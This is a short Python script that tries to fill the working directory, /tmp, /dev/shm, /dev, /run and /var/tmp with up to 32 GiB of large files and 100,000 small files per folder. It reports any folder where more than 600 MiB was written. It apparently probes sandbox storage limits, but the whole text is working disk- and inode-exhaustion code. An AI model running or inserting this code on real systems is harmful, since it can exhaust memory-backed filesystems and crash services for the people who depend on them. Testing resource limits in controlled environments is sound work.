# Fills every folder that it may write to, with large files and with many.
# %% end
import os
for folder in (".", "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp"):
    total = 0
    try:
        for number in range(4000):
            with open(f"{folder}/big{number}", "wb") as file:
                total += file.write(b"x" * (8 << 20))
    except OSError:
        pass
    try:
        for number in range(100_000):
            open(f"{folder}/small{number}", "w").close()
    except OSError:
        pass
    if total > 600 << 20:
        print("TAKEN", folder, total)
